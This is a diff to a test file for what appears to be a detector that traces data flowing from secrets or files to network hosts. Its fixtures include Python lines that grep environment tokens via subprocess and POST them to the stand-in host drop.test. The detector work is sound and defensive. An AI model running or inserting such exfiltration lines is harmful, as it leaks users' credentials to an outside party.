@@ -44,7 +44,7 @@ describe("what is gathered piece by piece is followed to where it goes", () => {
         'out = subprocess.check_output("env | grep -i token", shell=True)',
         'requests.post("https://drop.test", data=out)',
       ],
-      ["secret:whole-environment env -> network:http drop.test"],
+      ["secret:whole-environment environment -> network:http drop.test"],
     ],
     [
       "whose machine it is and what lies on it, as digests",
@@ -72,7 +72,7 @@ describe("what is gathered piece by piece is followed to where it goes", () => {
       'out = subprocess.check_output("env LANG=C sort names.txt", shell=True)',
       'requests.post("https://drop.test", data=out)',
     ];
-    expect(flows("python", lines)).toStrictEqual([]);
+    expect(flows("python", lines)).toStrictEqual(["file names.txt -> network:http drop.test"]);
   });
 });
 
